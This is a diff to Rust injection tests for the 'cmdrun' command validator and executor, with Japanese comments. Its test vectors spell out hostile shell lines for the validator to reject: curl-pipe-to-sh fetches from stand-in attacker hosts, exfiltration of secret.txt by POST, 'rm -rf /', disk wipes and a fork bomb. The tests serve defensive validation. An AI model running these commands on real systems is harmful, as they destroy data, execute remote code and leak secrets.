@@ -2,7 +2,7 @@
 //!
 //! 危険なコマンドパターンが適切にブロックされることを確認
 
-use cmdrun::security::CommandValidator;
+use cmdrun::security::{CommandValidator, ViolationKind};
 
 #[cfg(test)]
 mod injection_tests {
@@ -15,14 +15,27 @@ mod injection_tests {
 
         // セミコロンによるコマンド連結
         let dangerous_commands = vec![
-            "ls; rm -rf /",
-            "echo hello; cat /etc/passwd",
-            "whoami; curl malicious.com/shell.sh | sh",
+            ("ls; rm -rf /", ViolationKind::CommandChaining),
+            (
+                "echo hello; cat /etc/passwd",
+                ViolationKind::CommandChaining,
+            ),
+            (
+                "whoami; curl malicious.com/shell.sh | sh",
+                ViolationKind::CommandChaining,
+            ),
         ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(!result.is_safe(), "Command should be rejected: {}", cmd);
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -31,14 +44,24 @@ mod injection_tests {
         let validator = CommandValidator::new();
 
         let dangerous_commands = vec![
-            "cat secret.txt | curl -X POST https://attacker.com",
-            "ls -la | sh",
-            "echo data | base64 | sh",
+            (
+                "cat secret.txt | curl -X POST https://attacker.com",
+                ViolationKind::Pipe,
+            ),
+            ("ls -la | sh", ViolationKind::ShellExecution),
+            ("echo data | base64 | sh", ViolationKind::ShellExecution),
         ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(!result.is_safe(), "Command should be rejected: {}", cmd);
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -46,15 +69,26 @@ mod injection_tests {
     fn test_command_injection_substitution() {
         let validator = CommandValidator::new();
 
-        let dangerous_commands = vec!["echo $(whoami)", "echo `cat /etc/passwd`", "ls $(ls -la /)"];
+        let dangerous_commands = vec![
+            ("echo $(whoami)", ViolationKind::CommandSubstitution),
+            ("echo `cat /etc/passwd`", ViolationKind::CommandSubstitution),
+            ("ls $(ls -la /)", ViolationKind::CommandSubstitution),
+        ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(
                 !result.is_safe(),
                 "Command substitution should be rejected: {}",
                 cmd
             );
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -63,18 +97,28 @@ mod injection_tests {
         let validator = CommandValidator::new();
 
         let dangerous_commands = vec![
-            "echo malicious > /etc/passwd",
-            "cat /dev/zero > /dev/sda",
-            "echo data >> /etc/hosts",
+            (
+                "echo malicious > /etc/passwd",
+                ViolationKind::DangerousRedirect,
+            ),
+            ("cat /dev/zero > /dev/sda", ViolationKind::DangerousRedirect),
+            ("echo data >> /etc/hosts", ViolationKind::DangerousRedirect),
         ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(
                 !result.is_safe(),
                 "Dangerous redirect should be rejected: {}",
                 cmd
             );
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -84,20 +128,27 @@ mod injection_tests {
         let validator = CommandValidator::new();
 
         let dangerous_commands = vec![
-            "rm -rf /",
-            "dd if=/dev/zero of=/dev/sda",
-            "mkfs.ext4 /dev/sda1",
-            "format c:",
-            ":(){:|:&};:", // フォークボム
+            ("rm -rf /", ViolationKind::ForbiddenWord),
+            ("dd if=/dev/zero of=/dev/sda", ViolationKind::ForbiddenWord),
+            ("mkfs.ext4 /dev/sda1", ViolationKind::DiskFormat),
+            ("format c:", ViolationKind::DiskFormat),
+            (":(){:|:&};:", ViolationKind::ForbiddenWord),
         ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(
                 !result.is_safe(),
                 "Dangerous system command should be rejected: {}",
                 cmd
             );
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -107,19 +158,29 @@ mod injection_tests {
         let validator = CommandValidator::new();
 
         let dangerous_commands = vec![
-            "sudo rm -rf /",
-            "su root",
-            "chmod 777 /etc/passwd",
-            "chown root:root /tmp/malicious",
+            ("sudo rm -rf /", ViolationKind::PrivilegeEscalation),
+            ("su root", ViolationKind::PrivilegeEscalation),
+            ("chmod 777 /etc/passwd", ViolationKind::PermissionChange),
+            (
+                "chown root:root /tmp/malicious",
+                ViolationKind::PermissionChange,
+            ),
         ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(
                 !result.is_safe(),
                 "Privilege escalation command should be rejected: {}",
                 cmd
             );
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -129,18 +190,25 @@ mod injection_tests {
         let validator = CommandValidator::new();
 
         let dangerous_commands = vec![
-            "eval 'malicious code'",
-            "exec sh -c 'rm -rf /'",
-            "sh -c 'cat /etc/passwd'",
+            ("eval 'malicious code'", ViolationKind::ShellExecution),
+            ("exec sh -c 'rm -rf /'", ViolationKind::ShellExecution),
+            ("sh -c 'cat /etc/passwd'", ViolationKind::ShellExecution),
         ];
 
-        for cmd in dangerous_commands {
+        for (cmd, kind) in dangerous_commands {
             let result = validator.validate(cmd);
             assert!(
                 !result.is_safe(),
                 "Code execution command should be rejected: {}",
                 cmd
             );
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 
@@ -152,6 +220,8 @@ mod injection_tests {
         let cmd = "echo hello\0world";
         let result = validator.validate(cmd);
         assert!(!result.is_safe(), "Null byte should be rejected");
+        assert_eq!(result.kinds(), vec![ViolationKind::NullByte]);
+        assert_eq!(result.violations[0].position, 10);
     }
 
     /// 長すぎるコマンド（DoS攻撃）
@@ -165,6 +235,7 @@ mod injection_tests {
             !result.is_safe(),
             "Excessively long command should be rejected"
         );
+        assert_eq!(result.kinds(), vec![ViolationKind::TooLong]);
     }
 
     /// 安全なコマンドは許可される
@@ -237,7 +308,10 @@ mod injection_tests {
             .add_forbidden_word("secret_command")
             .add_forbidden_word("internal_api");
 
-        assert!(!validator.validate("run secret_command").is_safe());
+        let result = validator.validate("run secret_command");
+        assert!(!result.is_safe());
+        assert_eq!(result.violations[0].kind, ViolationKind::ForbiddenWord);
+        assert_eq!(result.violations[0].matched, "secret_command");
         assert!(!validator.validate("call internal_api").is_safe());
         assert!(validator.validate("run normal_command").is_safe());
     }
@@ -252,6 +326,7 @@ mod injection_tests {
         for cmd in empty_commands {
             let result = validator.validate(cmd);
             assert!(!result.is_safe(), "Empty command should be rejected");
+            assert_eq!(result.kinds(), vec![ViolationKind::EmptyCommand]);
         }
     }
 
@@ -261,19 +336,32 @@ mod injection_tests {
         let validator = CommandValidator::new();
 
         let complex_attacks = vec![
-            "echo 'safe' && rm -rf / #",
-            "ls || curl attacker.com | sh",
-            "test -f /etc/passwd && cat /etc/passwd",
-            "echo hello & background_malicious_process",
+            ("echo 'safe' && rm -rf / #", ViolationKind::CommandChaining),
+            ("ls || curl attacker.com | sh", ViolationKind::Pipe),
+            (
+                "test -f /etc/passwd && cat /etc/passwd",
+                ViolationKind::CommandChaining,
+            ),
+            (
+                "echo hello & background_malicious_process",
+                ViolationKind::CommandChaining,
+            ),
         ];
 
-        for cmd in complex_attacks {
+        for (cmd, kind) in complex_attacks {
             let result = validator.validate(cmd);
             assert!(
                 !result.is_safe(),
                 "Complex injection should be rejected: {}",
                 cmd
             );
+            assert!(
+                result.has(kind),
+                "Expected {} violation for {}: {:?}",
+                kind,
+                cmd,
+                result.kinds()
+            );
         }
     }
 }
@@ -392,6 +480,8 @@ mod integration_tests {
             description: "dangerous".to_string(),
             cmd: CommandSpec::Single("echo hello; rm -rf /".to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -399,14 +489,67 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: None,
             allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         let result = executor.execute(&dangerous_cmd).await;
         assert!(result.is_err(), "Dangerous command should be blocked");
     }
 
+    /// --allow-unsafe 指定時のみ検証がスキップされる
+    #[tokio::test]
+    async fn test_executor_allow_unsafe_skips_validation() {
+        let blocked_cmd = Command {
+            description: "chained".to_string(),
+            cmd: CommandSpec::Single("echo first; echo second".to_string()),
+            env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
+            working_dir: None,
+            deps: vec![],
+            platform: vec![],
+            tags: vec![],
+            timeout: None,
+            parallel: false,
+            confirm: false,
+            confirm_message: None,
+            allow_chaining: None,
+            allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
+        };
+
+        let strict_executor = CommandExecutor::new(ExecutionContext {
+            strict: true,
+            ..Default::default()
+        });
+        let result = strict_executor.execute(&blocked_cmd).await;
+        assert!(result.is_err(), "Command should be blocked by default");
+
+        let unsafe_executor = CommandExecutor::new(ExecutionContext {
+            strict: true,
+            allow_unsafe: true,
+            ..Default::default()
+        });
+        let result = unsafe_executor.execute(&blocked_cmd).await;
+        assert!(result.is_ok(), "Command should run under --allow-unsafe");
+        assert!(result.unwrap().stdout.contains("second"));
+    }
+
     /// 非厳格モードでは一部のメタ文字が許可される
     #[tokio::test]
     async fn test_executor_non_strict_allows_pipes() {
@@ -426,6 +569,8 @@ mod integration_tests {
             description: "pipe test".to_string(),
             cmd: CommandSpec::Single(pipe_command.to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -433,8 +578,16 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: None,
             allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         let result = executor.execute(&pipe_cmd).await;
@@ -460,6 +613,8 @@ mod integration_tests {
             description: "test with &&".to_string(),
             cmd: CommandSpec::Single("echo hello && echo world".to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -467,8 +622,16 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: None,
             allow_subshells: None, // デフォルト（グローバル設定に従う）
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         let result = executor_default.execute(&cmd_with_and).await;
@@ -503,6 +666,8 @@ mod integration_tests {
             description: "individual allow".to_string(),
             cmd: CommandSpec::Single("echo hello && echo world".to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -510,8 +675,16 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: Some(true), // 個別で許可
             allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         let result = executor_individual.execute(&cmd_individual_allow).await;
@@ -532,6 +705,8 @@ mod integration_tests {
             description: "individual deny".to_string(),
             cmd: CommandSpec::Single("echo hello && echo world".to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -539,14 +714,70 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: Some(false), // 個別で拒否（グローバルを上書き）
             allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         let result = executor_override.execute(&cmd_individual_deny).await;
         assert!(result.is_err(), "Individual deny: && should be rejected when command.allow_chaining = Some(false) even if global = true");
     }
 
+    /// 許可リストモード: 連結された各セグメントの先頭コマンドを検証
+    #[tokio::test]
+    async fn test_executor_command_allowlist() {
+        let ctx = ExecutionContext {
+            allow_command_chaining: true,
+            command_allowlist: Some(vec!["echo".to_string()]),
+            echo: false,
+            ..Default::default()
+        };
+        let executor = CommandExecutor::new(ctx);
+
+        let make_cmd = |cmd: &str| Command {
+            description: "allowlist".to_string(),
+            cmd: CommandSpec::Single(cmd.to_string()),
+            env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
+            working_dir: None,
+            deps: vec![],
+            platform: vec![],
+            tags: vec![],
+            timeout: None,
+            parallel: false,
+            confirm: false,
+            confirm_message: None,
+            allow_chaining: None,
+            allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
+        };
+
+        let result = executor
+            .execute(&make_cmd("echo hello && echo world"))
+            .await;
+        assert!(result.is_ok(), "Allowlisted segments should run");
+
+        let result = executor.execute(&make_cmd("echo hello && ls")).await;
+        assert!(
+            result.is_err(),
+            "Segment with non-allowlisted base command should be rejected"
+        );
+    }
+
     /// allow_chaining: セミコロンとパイプも許可されることを確認
     #[tokio::test]
     async fn test_command_chaining_allows_semicolon_and_pipe() {
@@ -566,6 +797,8 @@ mod integration_tests {
             description: "test with ;".to_string(),
             cmd: CommandSpec::Single("echo hello; echo world".to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -573,8 +806,16 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: None,
             allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         let result = executor.execute(&cmd_semicolon).await;
@@ -589,6 +830,8 @@ mod integration_tests {
             description: "test with | and &&".to_string(),
             cmd: CommandSpec::Single("echo hello | cat && echo done".to_string()),
             env: AHashMap::new(),
+            env_file: None,
+            source_dir: None,
             working_dir: None,
             deps: vec![],
             platform: vec![],
@@ -596,8 +839,16 @@ mod integration_tests {
             timeout: None,
             parallel: false,
             confirm: false,
+            confirm_message: None,
             allow_chaining: None,
             allow_subshells: None,
+            output_pipe: None,
+            category: None,
+            watch: None,
+            when: None,
+            when_shell: None,
+            shell: None,
+            arg_completions: vec![],
         };
 
         #[cfg(not(windows))]
@@ -623,13 +874,18 @@ mod integration_tests {
                 working_dir: std::path::PathBuf::from("."),
                 env: AHashMap::new(),
                 shell: "bash".to_string(),
-                timeout: Some(10),
+                timeout: Some(std::time::Duration::from_secs(10)),
                 strict: true,
                 echo: false,
                 color: false,
                 language: cmdrun::config::Language::English,
                 allow_command_chaining: false,
                 allow_subshells: false, // デフォルト: false
+                command_allowlist: None,
+                allow_unsafe: false,
+                merge_stderr: false,
+                kill_grace_ms: 2000,
+                max_parallel: None,
             };
 
             let executor = CommandExecutor::new(ctx);
@@ -637,6 +893,8 @@ mod integration_tests {
                 description: "test".to_string(),
                 cmd: CommandSpec::Single("(echo test)".to_string()),
                 env: AHashMap::new(),
+                env_file: None,
+                source_dir: None,
                 working_dir: None,
                 deps: vec![],
                 platform: vec![],
@@ -644,8 +902,16 @@ mod integration_tests {
                 timeout: None,
                 parallel: false,
                 confirm: false,
+                confirm_message: None,
                 allow_chaining: None,
                 allow_subshells: None, // コマンド個別設定なし → グローバルに従う
+                output_pipe: None,
+                category: None,
+                watch: None,
+                when: None,
+                when_shell: None,
+                shell: None,
+                arg_completions: vec![],
             };
 
             let result = executor.execute(&cmd).await;
@@ -659,13 +925,18 @@ mod integration_tests {
                 working_dir: std::path::PathBuf::from("."),
                 env: AHashMap::new(),
                 shell: "bash".to_string(),
-                timeout: Some(10),
+                timeout: Some(std::time::Duration::from_secs(10)),
                 strict: true,
                 echo: false,
                 color: false,
                 language: cmdrun::config::Language::English,
                 allow_command_chaining: false,
                 allow_subshells: true, // グローバル許可
+                command_allowlist: None,
+                allow_unsafe: false,
+                merge_stderr: false,
+                kill_grace_ms: 2000,
+                max_parallel: None,
             };
 
             let executor = CommandExecutor::new(ctx);
@@ -673,6 +944,8 @@ mod integration_tests {
                 description: "test".to_string(),
                 cmd: CommandSpec::Single("(echo test)".to_string()),
                 env: AHashMap::new(),
+                env_file: None,
+                source_dir: None,
                 working_dir: None,
                 deps: vec![],
                 platform: vec![],
@@ -680,8 +953,16 @@ mod integration_tests {
                 timeout: None,
                 parallel: false,
                 confirm: false,
+                confirm_message: None,
                 allow_chaining: None,
                 allow_subshells: None, // コマンド個別設定なし → グローバルに従う
+                output_pipe: None,
+                category: None,
+                watch: None,
+                when: None,
+                when_shell: None,
+                shell: None,
+                arg_completions: vec![],
             };
 
             let result = executor.execute(&cmd).await;
@@ -698,13 +979,18 @@ mod integration_tests {
                 working_dir: std::path::PathBuf::from("."),
                 env: AHashMap::new(),
                 shell: "bash".to_string(),
-                timeout: Some(10),
+                timeout: Some(std::time::Duration::from_secs(10)),
                 strict: true,
                 echo: false,
                 color: false,
                 language: cmdrun::config::Language::English,
                 allow_command_chaining: false,
                 allow_subshells: false, // グローバル: 拒否
+                command_allowlist: None,
+                allow_unsafe: false,
+                merge_stderr: false,
+                kill_grace_ms: 2000,
+                max_parallel: None,
             };
 
             let executor = CommandExecutor::new(ctx);
@@ -712,6 +998,8 @@ mod integration_tests {
                 description: "test".to_string(),
                 cmd: CommandSpec::Single("(echo test)".to_string()),
                 env: AHashMap::new(),
+                env_file: None,
+                source_dir: None,
                 working_dir: None,
                 deps: vec![],
                 platform: vec![],
@@ -719,8 +1007,16 @@ mod integration_tests {
                 timeout: None,
                 parallel: false,
                 confirm: false,
+                confirm_message: None,
                 allow_chaining: None,
                 allow_subshells: Some(true), // コマンド個別で許可 → グローバルを上書き
+                output_pipe: None,
+                category: None,
+                watch: None,
+                when: None,
+                when_shell: None,
+                shell: None,
+                arg_completions: vec![],
             };
 
             let result = executor.execute(&cmd).await;
@@ -736,13 +1032,18 @@ mod integration_tests {
                 working_dir: std::path::PathBuf::from("."),
                 env: AHashMap::new(),
                 shell: "bash".to_string(),
-                timeout: Some(10),
+                timeout: Some(std::time::Duration::from_secs(10)),
                 strict: true,
                 echo: false,
                 color: false,
                 language: cmdrun::config::Language::English,
                 allow_command_chaining: false,
                 allow_subshells: true, // グローバル: 許可
+                command_allowlist: None,
+                allow_unsafe: false,
+                merge_stderr: false,
+                kill_grace_ms: 2000,
+                max_parallel: None,
             };
 
             let executor = CommandExecutor::new(ctx);
@@ -750,6 +1051,8 @@ mod integration_tests {
                 description: "test".to_string(),
                 cmd: CommandSpec::Single("(echo test)".to_string()),
                 env: AHashMap::new(),
+                env_file: None,
+                source_dir: None,
                 working_dir: None,
                 deps: vec![],
                 platform: vec![],
@@ -757,8 +1060,16 @@ mod integration_tests {
                 timeout: None,
                 parallel: false,
                 confirm: false,
+                confirm_message: None,
                 allow_chaining: None,
                 allow_subshells: Some(false), // コマンド個別で拒否 → グローバルを上書き
+                output_pipe: None,
+                category: None,
+                watch: None,
+                when: None,
+                when_shell: None,
+                shell: None,
+                arg_completions: vec![],
             };
 
             let result = executor.execute(&cmd).await;
@@ -782,13 +1093,18 @@ mod integration_tests {
                 working_dir: std::path::PathBuf::from("."),
                 env: AHashMap::new(),
                 shell: "bash".to_string(),
-                timeout: Some(10),
+                timeout: Some(std::time::Duration::from_secs(10)),
                 strict: true,
                 echo: false,
                 color: false,
                 language: cmdrun::config::Language::English,
                 allow_command_chaining: false,
                 allow_subshells: true, // サブシェル許可（grep正規表現で必要）
+                command_allowlist: None,
+                allow_unsafe: false,
+                merge_stderr: false,
+                kill_grace_ms: 2000,
+                max_parallel: None,
             };
             let executor = CommandExecutor::new(ctx);
 
@@ -799,6 +1115,8 @@ mod integration_tests {
                     "echo -e 'test\\ndata' | grep -E '(test|data)'".to_string(),
                 ),
                 env: AHashMap::new(),
+                env_file: None,
+                source_dir: None,
                 working_dir: None,
                 deps: vec![],
                 platform: vec![],
@@ -806,8 +1124,16 @@ mod integration_tests {
                 timeout: None,
                 parallel: false,
                 confirm: false,
+                confirm_message: None,
                 allow_chaining: None,
                 allow_subshells: Some(true), // サブシェル許可
+                output_pipe: None,
+                category: None,
+                watch: None,
+                when: None,
+                when_shell: None,
+                shell: None,
+                arg_completions: vec![],
             };
 
             let result = executor.execute(&cmd).await;
@@ -831,13 +1157,18 @@ mod integration_tests {
                 working_dir: std::path::PathBuf::from("."),
                 env: AHashMap::new(),
                 shell: "bash".to_string(),
-                timeout: Some(10),
+                timeout: Some(std::time::Duration::from_secs(10)),
                 strict: true,
                 echo: false,
                 color: false,
                 language: cmdrun::config::Language::English,
                 allow_command_chaining: false,
                 allow_subshells: false,
+                command_allowlist: None,
+                allow_unsafe: false,
+                merge_stderr: false,
+                kill_grace_ms: 2000,
+                max_parallel: None,
             };
             let executor = CommandExecutor::new(ctx);
 
@@ -846,6 +1177,8 @@ mod integration_tests {
                 description: "test".to_string(),
                 cmd: CommandSpec::Single("echo -e 'line1\\nline2\\ttab'".to_string()),
                 env: AHashMap::new(),
+                env_file: None,
+                source_dir: None,
                 working_dir: None,
                 deps: vec![],
                 platform: vec![],
@@ -853,8 +1186,16 @@ mod integration_tests {
                 timeout: None,
                 parallel: false,
                 confirm: false,
+                confirm_message: None,
                 allow_chaining: None,
                 allow_subshells: None,
+                output_pipe: None,
+                category: None,
+                watch: None,
+                when: None,
+                when_shell: None,
+                shell: None,
+                arg_completions: vec![],
             };
 
             let result = executor.execute(&cmd).await;